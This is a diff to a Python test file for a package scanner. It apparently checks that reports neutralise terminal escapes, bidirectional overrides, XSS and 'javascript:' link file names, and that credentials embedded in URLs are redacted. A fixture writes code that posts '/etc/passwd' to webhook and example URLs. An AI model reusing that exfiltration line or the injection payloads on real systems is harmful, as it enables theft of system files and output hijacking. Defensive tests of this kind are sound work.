@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 import zlib
@@ -77,3 +78,206 @@ def test_config_outside_the_target_or_named_explicitly_is_read(leaky: Path) -> N
         "scan", ".", "--config", "finalexam.toml", "--allow-incomplete", "database", cwd=leaky
     )
     assert named.returncode == 0, named.stderr  # the user chose that file
+
+
+# -- names and values that try to reach a renderer or a terminal ---------------------------
+
+RAW_CONTROLS = ("\x1b", "\x9b", "\u202e", "\u2066", "\x07")
+NASTY_NAMES = (
+    "[/x].js",  # rich markup: crashed the table
+    "red\x1b[31m\x1b]0;owned\x07.js",  # terminal escapes (C0)
+    "csi\x9b2J.js",  # a C1 control: CSI on many terminals
+    "invoice\u202egnp.js",  # a right-to-left override: the name reads backwards
+    "iso\u2066late.js",
+    "<script>alert(1)</script>.js",
+    "[click](javascript:alert(1)).md",
+    "@everyone.js",
+)
+
+
+def _tar_of(members: dict[str, str]) -> bytes:
+    import io
+    import tarfile
+
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        for name, text in members.items():
+            raw = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size = len(raw)
+            archive.addfile(info, io.BytesIO(raw))
+    return buffer.getvalue()
+
+
+def test_names_never_reach_a_terminal_or_renderer_raw(tmp_path: Path) -> None:
+    members = {name: f"TOKEN = {TOKEN!r}\n" for name in NASTY_NAMES}
+    target = write(tmp_path / "release\x1b[2J\u202e.tar", _tar_of(members))
+    outputs = {fmt: tmp_path / f"r.{fmt}" for fmt in ("json", "sarif", "html", "markdown", "junit")}
+    args = [f"-o{fmt}={path}" for fmt, path in outputs.items()]
+    result = finalexam("scan", str(target), "-o", "table", *args, cwd=tmp_path)
+    assert result.returncode == 1, result.stderr  # the token: failed, not an internal error
+    assert "internal error" not in result.stderr and "Traceback" not in result.stderr
+    table = result.stdout
+    assert "[/x].js" in table and "release" in table
+    texts = {"table": table, "stderr": result.stderr}
+    texts |= {fmt: path.read_text(encoding="utf-8") for fmt, path in outputs.items()}
+    for fmt, text in texts.items():
+        for control in RAW_CONTROLS:
+            assert control not in text, (fmt, repr(control))
+    json.loads(texts["json"]) and json.loads(texts["sarif"])
+    import xml.etree.ElementTree as ET
+    from html.parser import HTMLParser
+
+    ET.fromstring(texts["junit"])
+    scripts: list[str] = []
+
+    class Scripts(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if tag == "script":
+                scripts.append(tag)
+
+    Scripts().feed(texts["html"])
+    assert len(scripts) == 1  # the report's own, hash-pinned script only
+    assert "<script>alert" not in texts["html"]
+    markdown = texts["markdown"]
+    assert "<script>" not in markdown
+    prose = re.sub(r"`[^`]*`", "", markdown)  # code spans are never Markdown
+    assert not re.search(r"(?<!\\)\]\(javascript:", prose)  # no link out of a file name
+    assert "@everyone" not in prose  # no mention pings from a package's file names
+
+
+# -- one redaction, everywhere --------------------------------------------------------------
+
+SLACK_SECRET = "Xq9Zr7Lm2Np4Ks8Vt6Wb3Yc5"
+CREDENTIALS = {
+    "userinfo": ("https://deploy:hunter2-Pa55word@artifacts.example.com/repo", "hunter2-Pa55word"),
+    "slack": (f"https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/{SLACK_SECRET}", SLACK_SECRET),
+    "query": (
+        "https://api.example.com/v1/items?access_token=Zk4tQ9pLx2Rm7vWn&page=2",
+        "Zk4tQ9pLx2Rm7vWn",
+    ),
+    "discord": (
+        "https://discord.com/api/webhooks/123456789012345678/aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9nP",
+        "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9nP",
+    ),
+}
+
+
+def _code_with_endpoints() -> str:
+    lines = ["import requests", ""]
+    lines += [
+        f'requests.post("{url}", data=open("/etc/passwd").read())'
+        for url, _ in CREDENTIALS.values()
+    ]
+    return "\n".join(lines) + "\n"
+
+
+def test_credentials_in_urls_are_redacted_in_every_output(tmp_path: Path) -> None:
+    target = write(
+        tmp_path / "agent-1.0.tar", _tar_of({"agent-1.0/agent/upload.py": _code_with_endpoints()})
+    )
+    formats = ("json", "sarif", "html", "markdown", "junit")
+    outputs = {fmt: tmp_path / f"r.{fmt}" for fmt in formats}
+    result = finalexam(
+        "scan",
+        str(target),
+        "-o",
+        "table",
+        *[f"-o{f}={p}" for f, p in outputs.items()],
+        cwd=tmp_path,
+    )
+    assert result.returncode in (0, 1), result.stderr
+    texts = {"table": result.stdout, "stderr": result.stderr}
+    texts |= {fmt: path.read_text(encoding="utf-8") for fmt, path in outputs.items()}
+    document = json.loads(texts["json"])
+    values = {i["value"] for i in document["indicators"]}
+    assert "https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/***" in values
+    assert "https://deploy:***@artifacts.example.com/repo" in values
+    for fmt, text in texts.items():
+        for name, (_, secret) in CREDENTIALS.items():
+            assert secret not in text, (fmt, name)
+    # and in a release diff that adds the file
+    old = write(tmp_path / "agent-0.9.tar", _tar_of({"agent-0.9/agent/__init__.py": "x = 1\n"}))
+    diff_outputs = {fmt: tmp_path / f"d.{fmt}" for fmt in ("json", "markdown", "html")}
+    diffed = finalexam(
+        "diff", str(old), str(target), *[f"-o{f}={p}" for f, p in diff_outputs.items()],
+        "-o", "table", cwd=tmp_path,
+    )  # fmt: skip
+    assert diffed.returncode in (0, 1, 3), diffed.stderr
+    texts = {"table": diffed.stdout} | {f: p.read_text() for f, p in diff_outputs.items()}
+    for fmt, text in texts.items():
+        for name, (_, secret) in CREDENTIALS.items():
+            assert secret not in text, ("diff", fmt, name)
+
+
+# -- reports are byte-identical; outputs that are not regular files are never replaced -----
+
+
+def test_two_runs_give_byte_identical_reports_without_timings(tmp_path: Path) -> None:
+    target = write(tmp_path / "a.tar", _tar_of({"a/app.py": "print('hi')\n"}))
+    env = {"SOURCE_DATE_EPOCH": ""}
+    first = finalexam("scan", str(target), "-o", "json", cwd=tmp_path, env=env)
+    second = finalexam("scan", str(target), "-o", "json", cwd=tmp_path, env=env)
+    assert first.returncode == 0, first.stderr
+    assert first.stdout == second.stdout
+    assert "timings" not in json.loads(first.stdout)
+    timed = finalexam("scan", str(target), "-o", "json", "--timings", cwd=tmp_path, env=env)
+    assert set(json.loads(timed.stdout)["timings"]) >= {"walk", "analyze"}
+
+
+def test_output_to_dev_stdout_writes_through(tmp_path: Path) -> None:
+    # /dev/stdout is a symbolic link to /proc/self/fd/1; a link of our own is the same thing
+    # without risking the machine's /dev/stdout should the code regress
+    stdout = tmp_path / "stdout"
+    stdout.symlink_to("/proc/self/fd/1")
+    target = write(tmp_path / "a.tar", _tar_of({"a/app.py": "print('hi')\n"}))
+    result = finalexam("scan", str(target), "-o", f"json={stdout}", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["artifact"]["name"] == "a.tar"
+    assert stdout.is_symlink()
+
+
+def test_output_to_a_fifo_writes_through(tmp_path: Path) -> None:
+    import stat
+    import threading
+
+    target = write(tmp_path / "a.tar", _tar_of({"a/app.py": "print('hi')\n"}))
+    fifo = tmp_path / "report.fifo"
+    os.mkfifo(fifo)
+    received: list[bytes] = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
+    reader.start()
+    result = finalexam("scan", str(target), "-o", f"json={fifo}", cwd=tmp_path)
+    reader.join(timeout=60)
+    assert result.returncode == 0, result.stderr
+    assert json.loads(received[0])["artifact"]["name"] == "a.tar"
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+
+
+def test_output_to_a_device_node_writes_through(tmp_path: Path) -> None:
+    import stat
+
+    null = tmp_path / "null"
+    try:
+        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
+    except PermissionError:
+        pytest.skip("creating a device node needs root")
+    target = write(tmp_path / "a.tar", _tar_of({"a/app.py": "print('hi')\n"}))
+    result = finalexam("scan", str(target), "-o", f"json={null}", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert stat.S_ISCHR(os.lstat(null).st_mode)  # still the device, not a regular file
+
+
+def test_output_through_a_symlink_or_onto_a_directory_is_refused(tmp_path: Path) -> None:
+    target = write(tmp_path / "a.tar", _tar_of({"a/app.py": "print('hi')\n"}))
+    precious = write(tmp_path / "precious.txt", b"keep me\n")
+    link = tmp_path / "report.json"
+    link.symlink_to(precious)
+    result = finalexam("scan", str(target), "-o", f"json={link}", cwd=tmp_path)
+    assert result.returncode == 2
+    assert "symbolic link" in result.stderr and "Traceback" not in result.stderr
+    assert link.is_symlink() and precious.read_bytes() == b"keep me\n"
+    folder = tmp_path / "out"
+    folder.mkdir()
+    result = finalexam("scan", str(target), "-o", f"json={folder}", cwd=tmp_path)
+    assert result.returncode == 2 and folder.is_dir()
